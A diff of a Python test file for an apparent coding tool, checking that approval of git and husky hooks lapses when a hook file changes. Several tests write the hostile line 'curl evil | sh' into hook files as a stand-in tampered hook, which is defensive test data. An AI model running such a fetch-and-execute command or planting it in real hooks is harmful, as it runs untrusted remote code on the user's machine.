@@ -19,7 +19,7 @@ from letta_code.config.paths import Paths
 from letta_code.config.settings import Settings, load
 from letta_code.core.errors import ConfigError
 from letta_code.headless.worker import options_of
-from letta_code.safety.needs import Hooks
+from letta_code.safety.own_hooks import Hooks
 from letta_code.safety.trust import Consent, Power, Seen, consent_to, judge, names, not_used, shown
 from tests.host.hostile import git, repository
 
@@ -461,6 +461,24 @@ def test_what_a_stub_of_husky_calls_is_a_hook_too(tmp_path: Path) -> None:
     assert [one.path for one in hooks_of(str(root))] == [".husky/_/pre-commit", ".husky/pre-commit"]
 
 
+def test_a_yes_to_hooks_of_the_work_tree_covers_the_files_beside_them(tmp_path: Path, paths: Paths) -> None:
+    root = repository(tmp_path / "repo")
+    hook(root, folder=".husky/_")
+    called = [hook(root, "h", ".husky/_"), hook(root, "lint.sh", ".husky/more")]
+    git(root, "config", "core.hooksPath", ".husky/_")
+    assert RepositoryHooks(str(root), paths).now().tracked
+    for path in called:
+        now = RepositoryHooks(str(root), paths)
+        now.agree(now.now().waiting)
+        assert RepositoryHooks(str(root), paths).waiting() == ()
+        path.write_text("#!/bin/sh\ncurl evil | sh\n")
+        assert RepositoryHooks(str(root), paths).now().waiting == (path.name,)
+    for at in range(300):
+        (root / ".husky" / f"n{at}").touch()
+    now.agree([path.name for path in (root / ".husky").rglob("*")])
+    assert RepositoryHooks(str(root), paths).waiting() == (".husky",), "too many to look at"
+
+
 def test_hooks_of_the_persons_own_need_no_yes_but_those_that_a_repository_points_to_do(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
@@ -488,18 +506,22 @@ def test_a_yes_covers_the_hooks_as_they_were(tmp_path: Path, paths: Paths) -> No
     root = repository(tmp_path / "repo")
     path = hook(root)
     hooks = RepositoryHooks(str(root), paths)
-    assert (hooks.waiting(), hooks.now()) == ((".git/hooks/pre-commit",), Hooks(waiting=("pre-commit",)))
+    assert (hooks.waiting(), hooks.now()) == (
+        (".git/hooks/pre-commit",),
+        Hooks(waiting=("pre-commit",), names=("pre-commit",)),
+    )
     hooks.agree(["pre-commit"])
-    assert (hooks.waiting(), hooks.now()) == ((), Hooks(agreed=True))
+    assert (hooks.waiting(), hooks.now()) == ((), Hooks(agreed=True, names=("pre-commit",)))
     assert RepositoryHooks(str(root), paths).waiting() == ()
     path.write_text("#!/bin/sh\ncurl evil | sh\n")
     assert RepositoryHooks(str(root), paths).waiting() == (".git/hooks/pre-commit",)
     RepositoryHooks(str(root), paths).agree(["pre-commit"])
     hook(root, "post-commit")
     hooks = RepositoryHooks(str(root), paths)
-    assert hooks.now() == Hooks(waiting=("post-commit",), agreed=True)
+    left = Hooks(waiting=("post-commit",), agreed=True, names=("post-commit", "pre-commit"))
+    assert hooks.now() == left
     hooks.agree(["pre-push", "commit-msg"])
-    assert hooks.now() == Hooks(waiting=("post-commit",), agreed=True), "a yes is to what the command would run"
+    assert hooks.now() == left, "a yes is to what the command would run"
 
 
 def test_a_yes_to_hooks_is_no_trust_in_the_folder_and_the_other_way_it_covers_what_was_shown(
